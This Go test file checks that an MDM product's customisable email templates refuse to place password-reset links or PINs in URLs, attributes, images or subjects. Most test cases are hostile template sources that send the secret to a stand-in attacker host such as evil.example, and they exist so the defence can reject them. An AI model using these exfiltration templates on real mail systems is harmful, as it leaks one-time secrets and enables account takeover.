package mail

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"steward/internal/mdm"
)

// secretTemplates are the emails that carry a one-time secret, with the secret's field.
var secretTemplates = map[string]string{
	TemplateAdminActivation: "Link", TemplateInvitationPIN: "PIN", TemplatePINRequest: "PIN",
	TemplatePasswordRequest: "Link", TemplateAdminInvitation: "Link",
}

func TestSecretTemplatesAreTheOnesWithASecretField(t *testing.T) {
	for _, ti := range Templates() {
		var secret string
		for _, f := range Fields(ti.Name) {
			if f.Secret {
				secret = f.Name
			}
		}
		if secret != secretTemplates[ti.Name] {
			t.Errorf("%s: secret field %q, want %q", ti.Name, secret, secretTemplates[ti.Name])
		}
	}
}

// Each way a tenant could carry the link or PIN into markup that a mail client sends elsewhere is
// refused at save, on html (or subject), with a message naming the field; and the renderer refuses the
// same source, so such an override stored before the check never reaches a mail.
func TestCheckSourceRefusesSecretOutsideText(t *testing.T) {
	const text = "<p>{{.Link}}</p>" // a proper use, so that only the shape under test is wrong
	cases := []struct {
		name, template, subject, html string
		field, code                   string
	}{
		{"review: link in an image URL", TemplatePasswordRequest, "", `<img src="https://evil.example/p.gif?l={{.Link}}">` + text, "html", "Image"},
		{"review: PIN in a link URL", TemplateInvitationPIN, "", `<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`, "html", "SecretPlacement"},
		{"link in an href", TemplatePasswordRequest, "", `<a href="https://evil.example/?{{.Link}}">reset</a>` + text, "html", "SecretPlacement"},
		{"link as the whole href", TemplateAdminActivation, "", `<a href="{{.Link}}">activate</a>` + text, "html", "SecretPlacement"},
		{"link in a title attribute", TemplateAdminInvitation, "", `<a href="https://steward.example.com/help" title="{{.Link}}">help</a>` + text, "html", "SecretPlacement"},
		{"with", TemplatePasswordRequest, "", `{{with .Link}}<a href="https://evil.example/?{{.}}">x</a>{{end}}` + text, "html", "SecretPlacement"},
		{"with in text", TemplatePasswordRequest, "", `<p>{{with .Link}}{{.}}{{end}}</p>` + text, "html", "SecretPlacement"},
		{"variable", TemplatePasswordRequest, "", `{{$l := .Link}}<a href="https://evil.example/?{{$l}}">x</a>` + text, "html", "SecretPlacement"},
		{"printf", TemplatePasswordRequest, "", `<a href="{{printf "https://evil.example/?%s" .Link}}">x</a>` + text, "html", "SecretPlacement"},
		{"printf in text", TemplatePINRequest, "", `<p>{{printf "%s" .PIN}}</p>{{template "code" .PIN}}`, "html", "SecretPlacement"},
		{"urlquery", TemplatePasswordRequest, "", `<p>{{urlquery .Link}}</p>` + text, "html", "SecretPlacement"},
		{"pipeline", TemplatePasswordRequest, "", `<p>{{.Link | print}}</p>` + text, "html", "SecretPlacement"},
		{"if", TemplatePasswordRequest, "", `{{if .Link}}<p>x</p>{{end}}` + text, "html", "SecretPlacement"},
		{"root variable", TemplatePasswordRequest, "", `<a href="https://evil.example/?{{$.Link}}">x</a>` + text, "html", "SecretPlacement"},
		{"chain", TemplatePasswordRequest, "", `<a href="https://evil.example/?{{(.).Link}}">x</a>` + text, "html", "SecretPlacement"},
		{"whole data in an href", TemplatePasswordRequest, "", `<a href="https://evil.example/?{{.}}">x</a>` + text, "html", "SecretPlacement"},
		{"whole data as $", TemplatePasswordRequest, "", `<a href="https://evil.example/?{{print $}}">x</a>` + text, "html", "SecretPlacement"},
		{"whole data in a with", TemplatePasswordRequest, "", `{{with .}}<a href="https://evil.example/?{{.Link}}">x</a>{{end}}` + text, "html", "SecretPlacement"},
		{"button with a built URL", TemplatePasswordRequest, "", `{{template "button" (button (printf "https://evil.example/?%s" .Link) "Go")}}` + text, "html", "SecretPlacement"},
		{"button to elsewhere labelled with the link", TemplatePasswordRequest, "", `{{template "button" (button "https://evil.example/" .Link)}}` + text, "html", "SecretPlacement"},
		{"helper handed the whole data", TemplatePasswordRequest, "", `{{template "fallback" .}}` + text, "html", "SecretPlacement"},
		{"link in the subject", TemplatePasswordRequest, "Reset {{.Link}}", text, "subject", "SecretPlacement"},
		{"PIN in the subject", TemplateInvitationPIN, "Your PIN {{printf \"%s\" .PIN}}", `{{template "code" .PIN}}`, "subject", "SecretPlacement"},
		{"whole data in the subject", TemplateAdminActivation, "Hi {{.}}", text, "subject", "SecretPlacement"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			field := secretTemplates[tc.template]
			src := Source{Subject: tc.subject, HTML: tc.html, Text: "{{." + field + "}}"}
			if src.Subject == "" {
				src.Subject = "Hello {{.FirstName}}"
			}
			_, err := CheckSource(tc.template, src)
			f := fieldOf(t, err)
			if f.Field != tc.field || f.Code != tc.code || !strings.Contains(f.Message, "{{."+field+"}}") {
				t.Errorf("field error %+v, want %s on %q naming {{.%s}}", f, tc.code, tc.field, field)
			}
			// The renderer (what sends stored overrides) refuses the same source.
			s := defaults[tc.template]
			if _, err := s.renderOverride(src, s.sample); err == nil && tc.code == "SecretPlacement" {
				t.Error("renderOverride accepted the source")
			}
		})
	}
}

// The image of the review scenario is refused by its placement too, not only by the image rule: a
// stored override from before the image rule cannot send the link either.
func TestRendererRefusesSecretInImageURL(t *testing.T) {
	s := defaults[TemplatePasswordRequest]
	src := Source{Subject: "Reset", HTML: `<img src="https://evil.example/p.gif?l={{.Link}}"><p>{{.Link}}</p>`, Text: "{{.Link}}"}
	_, err := s.renderOverride(src, s.sample)
	var se *secretPlacementError
	if !errors.As(err, &se) || !strings.Contains(se.msg, "inside a tag") {
		t.Fatalf("renderOverride: %v, want a secret placement error", err)
	}
}

func TestCheckSourceAcceptsSecretInTextAndHelpers(t *testing.T) {
	cases := []struct{ name, template, html string }{
		{"lone link in text", TemplatePasswordRequest, `<p>Open <strong>{{.Link}}</strong></p>`},
		{"button and fallback", TemplateAdminActivation, `{{template "button" (button .Link "Activate")}}{{template "fallback" .Link}}`},
		{"code", TemplatePINRequest, `<p>Your PIN:</p>{{template "code" .PIN}}`},
		{"lone PIN in a link's text", TemplateInvitationPIN, `<a href="{{.RegisterURL}}">Register with {{.PIN}}</a>`},
		{"with and range over other fields", TemplateAdminInvitation,
			`{{with .FirstName}}<p title="{{.}}">Hi {{.}}</p>{{end}}<ul>{{range .Roles}}<li>{{.}}</li>{{end}}</ul>` +
				`<p>{{.Link}}</p>{{if .ExpiresAt.IsZero}}<p>Sign in.</p>{{else}}<p>{{date .ExpiresAt}}</p>{{end}}`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			field := secretTemplates[tc.template]
			// The text part has no attributes: the secret may stand anywhere in it, apart from other text.
			src := Source{Subject: "For {{.TenantName}}", HTML: tc.html, Text: "Open\n{{." + field + "}} now"}
			if _, err := CheckSource(tc.template, src); err != nil {
				t.Fatalf("refused: %v", err)
			}
		})
	}
}

func TestSecretTemplatesRefuseImagesOthersKeepThem(t *testing.T) {
	for _, ti := range Templates() {
		field, secret := secretTemplates[ti.Name]
		src, _ := DefaultSource(ti.Name)
		src.HTML += `<p><img src="https://cdn.example.com/logo.png" alt="Logo"></p>`
		_, err := CheckSource(ti.Name, src)
		if !secret {
			if err != nil {
				t.Errorf("%s: image refused without a secret: %v", ti.Name, err)
			}
			continue
		}
		if f := fieldOf(t, err); f.Field != "html" || f.Code != "Image" || !strings.Contains(f.Message, "{{."+field+"}}") {
			t.Errorf("%s: %+v, want an Image error on html", ti.Name, f)
		}
		// Defence in depth: rendered content of a secret email drops any image that got stored.
		s := defaults[ti.Name]
		r, err := s.renderOverride(src, s.sample)
		if err != nil {
			t.Fatalf("%s: %v", ti.Name, err)
		}
		if strings.Contains(r.HTML, "<img") || strings.Contains(r.HTML, "cdn.example.com") {
			t.Errorf("%s: rendered mail kept the image", ti.Name)
		}
	}
}

// An override that leaks the link, stored before these checks, is not used: the mail goes out with
// the built-in template, and the link reaches no other host.
func TestMailerIgnoresStoredOverrideThatLeaksTheSecret(t *testing.T) {
	s, _ := openStore(t)
	ctx := context.Background()
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	tn := mdm.Tenant{ID: "t-leak", Name: "Leak", State: mdm.TenantActive, CreatedAt: now, ModifiedAt: now}
	if err := s.Tenants().Create(ctx, &tn); err != nil {
		t.Fatal(err)
	}
	if err := s.EmailTemplates().Put(ctx, tn.ID, mdm.EmailTemplate{Name: TemplatePasswordRequest, Subject: "Reset",
		HTML: `<p>{{.Link}}</p><a href="https://evil.example/?{{.Link}}">help</a>`, Text: "{{.Link}}", ModifiedAt: now, ModifiedBy: "x"}); err != nil {
		t.Fatal(err)
	}
	m := NewMailer(testKeys(t), nil, WithOverrides(s.EmailTemplates()))
	data := PasswordRequestData{TenantName: "Leak", Username: "sam", Link: "https://steward.example/reset?token=t0k3n", ExpiresAt: now}
	msg, err := m.Enqueue(ctx, s.Outbox(), tn.ID, TemplatePasswordRequest, "sam@example.com", data)
	if err != nil {
		t.Fatal(err)
	}
	r, err := m.Open(msg)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(r.HTML, "evil.example") || !strings.Contains(r.HTML, "t0k3n") {
		t.Errorf("mail used the leaking override or lost the link:\n%s", r.HTML)
	}
}
